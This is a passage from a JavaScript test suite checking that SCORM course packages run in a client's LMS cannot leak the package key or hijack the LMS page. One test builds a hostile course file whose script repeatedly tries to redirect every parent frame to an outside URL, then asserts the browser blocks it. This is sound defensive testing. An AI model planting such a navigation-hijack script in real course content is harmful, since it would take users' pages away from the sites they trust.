    expect(await course.evaluate('[parent.location.href, parent.document.documentElement.outerHTML].join()')).not.toContain(made.k); // the package's key stays in the package
    await recorded(made, 'anna', { lesson_status: 'incomplete' });
    expect(setCalls(visit.calls()).filter((call) => /=passed|Finish|score/.test(call))).toEqual([]);
  });

  test('in a client’s LMS it cannot lead the LMS’s page away by itself', async () => {
    const leaps = `setInterval(function () { var w = window; for (var n = 0; n < 9; n++) { try { w.top.location = '${site.url('leapt')}'; } catch (e) {} try { w.top.location.replace('${site.url('leapt')}'); } catch (e) {} w = w.parent; } }, 100);`;
    const made = await world.dispatchInLms('strict-1.2', { course: await makeScorm12Zip({ manifest: scorm12Manifest().replaceAll('sco1.html', 'leaps.html'), extraFiles: [{ name: 'leaps.html', data: `<!doctype html><title>Leaps</title><script>${leaps}</script>` }] }) });
    const visit = await made.open({ id: 'anna' });
    await until(() => visit.page.frames().some((frame) => frame.url().includes('/content/'))); // looking into the frame would count as a click in it
    await until(() => visit.seen.errors.join('\n'), (errors) => errors.includes('Unsafe attempt to initiate navigation'));
    expect(visit.page.url().startsWith(made.lms.origin)).toBe(true);
    expect(site.seen.some(({ text }) => text.includes('leapt.test'))).toBe(false);
  });
});
